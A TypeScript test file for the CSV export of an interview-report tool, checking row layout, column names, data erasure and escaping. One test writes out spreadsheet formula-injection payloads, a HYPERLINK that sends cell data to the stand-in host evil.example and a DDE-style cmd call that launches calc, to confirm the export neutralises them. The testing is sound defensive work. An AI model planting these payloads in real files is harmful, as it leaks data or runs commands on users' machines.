import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { buildReport } from '../../../../src/record/build-report.js';
import { eraseData } from '../../../../src/record/erase-data.js';
import { csvRow } from '../../../../src/record/exports/csv-cell.js';
import { reportCsv } from '../../../../src/record/exports/report-csv.js';
import { seededRandom } from '../../../../src/utils/seeded-random.js';
import { sampleLog } from '../../../../stories/sample-log.js';
import { spokenLog } from '../../../../stories/sample-turns.js';
import { TURNS } from '../../../../stories/sample-answers.js';
import { created, logOf } from '../sample-log.js';

/** RFC 4180 as another program would read it. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < csv.length) {
    let cell = '';
    if (csv[at] === '"') {
      for (at++; csv[at] !== '"' || csv[at + 1] === '"'; at++) {
        if (csv[at] === '"') at++;
        cell += csv[at];
        assert.ok(at < csv.length, 'a quoted cell has no end');
      }
      at++;
    } else {
      while (at < csv.length && csv[at] !== ',' && csv[at] !== '\r') cell += csv[at++];
      assert.ok(!/["\n]/.test(cell), `a cell should have been quoted: ${cell}`);
    }
    row.push(cell);
    if (csv[at] === ',') at++;
    else {
      assert.equal(csv.slice(at, at + 2), '\r\n');
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

function table(csv: string): Record<string, string>[] {
  const [names = [], ...rows] = parse(csv);
  return rows.map((row) => {
    assert.equal(row.length, names.length);
    return Object.fromEntries(names.map((name, index) => [name, row[index] ?? '']));
  });
}

describe('reportCsv', () => {
  it('has a row for each question and criterion, and one for a question that was not judged', () => {
    const rows = table(reportCsv(buildReport(sampleLog({ candidate: { name: 'Ada Muster' } }))));
    assert.deepEqual(
      rows.map(({ place, question_number, question_kind, outcome, criterion_id, level }) => [place, question_number, question_kind, outcome, criterion_id, level].join(' ').trim()),
      [
        '1 0 practice answered',
        '2 1 planned answered content 5',
        '2 1 planned answered detail 4',
        '3 2 planned answered content 4',
        '3 2 planned answered detail 2',
        '4 2 follow-up answered content 5',
        '4 2 follow-up answered detail 1',
        '5 3 planned skipped',
        '6 4 planned answered content 5',
        '6 4 planned answered detail 3',
      ],
    );
    const [, first] = rows;
    const turn = TURNS[1];
    assert.deepEqual([first?.['question'], first?.['answer'], first?.['quote']], [turn?.question.text, turn?.answer, turn?.evaluation?.scores[0]?.quote]);
    assert.deepEqual([first?.['candidate_name'], first?.['created_at'], first?.['recogniser_confidence']], ['Ada Muster', '2026-11-14T09:00:00.000Z', '0.87']);
    assert.equal(rows[3]?.['points_missing'], 'It takes part in forms');
  });

  it('says what ended each answer', () => {
    const rows = table(reportCsv(buildReport(sampleLog())));
    assert.deepEqual([...new Set(rows.map((row) => row['answer_ended_by']))], ['candidate', '']);
    assert.ok(table(reportCsv(buildReport(spokenLog()))).some((row) => row['answer_ended_by'] === 'turn-end'));
  });

  it('keeps the names of its columns', () => {
    const [names] = parse(reportCsv(buildReport(logOf([0, created()]))));
    assert.deepEqual(names?.slice(0, 4), ['session_id', 'title', 'role', 'created_at']);
    assert.equal(new Set(names).size, names?.length);
    assert.ok(names?.every((name) => /^[a-z_]+$/.test(name)));
  });

  it('has a row for an interview without questions, and nothing of what was erased', () => {
    assert.equal(table(reportCsv(buildReport(logOf([0, created()])))).length, 1);
    const events = sampleLog({ candidate: { name: 'Ada Muster' } });
    const erased = reportCsv(buildReport(eraseData(events, () => true)));
    assert.equal(table(erased).length, 6);
    for (const secret of ['Ada', 'profiler', 'Frontend']) assert.ok(!erased.includes(secret), secret);
  });

  it('begins with a byte order mark where that is asked for', () => {
    const report = buildReport(sampleLog());
    assert.equal(reportCsv(report, { bom: true }), `\ufeff${reportCsv(report)}`);
  });

  it('makes harmless what a candidate wrote for a spreadsheet', () => {
    const [practice, first] = TURNS;
    const formula = '=HYPERLINK("http://evil.example?"&A1,"Error")';
    const rows = table(reportCsv(buildReport(sampleLog({ turns: [practice!, { ...first!, answer: formula }], candidate: { name: '@SUM(1+1)*cmd|"/C calc"!A0' } }))));
    assert.equal(rows[1]?.['answer'], `'${formula}`);
    assert.equal(rows[1]?.['candidate_name'], '\'@SUM(1+1)*cmd|"/C calc"!A0');
  });
});

describe('csvRow', () => {
  const random = seededRandom('cells');
  const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', 'a', 'é', '漢', '🙂', '\uff1d', '|', '!', '1'];
  const text = (): string => Array.from({ length: Math.floor(random() * 8) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');

  it('gives back what was written, whatever it was, but for the apostrophe', () => {
    for (let round = 0; round < 5_000; round++) {
      const cells = [text(), text(), text()];
      const [row, ...more] = parse(`${csvRow(cells)}\r\n`);
      assert.deepEqual(more, []);
      assert.deepEqual(row?.map((cell, index) => (cell === `'${cells[index]}` ? cells[index] : cell)), cells);
    }
  });

  it('leaves no cell that begins with what a spreadsheet runs', () => {
    for (let round = 0; round < 5_000; round++) {
      const [row = []] = parse(`${csvRow([text(), text(), text()])}\r\n`);
      for (const cell of row) assert.ok(!/^\s*[=+\-@\uff1d]|^[\t\r\n]/.test(cell), JSON.stringify(cell));
    }
  });

  it('leaves numbers and nothing as they are', () => {
    assert.equal(csvRow([-1, 0.5, null, undefined, 'a', 'a b', "it's"]), "-1,0.5,,,a,a b,it's");
  });
});
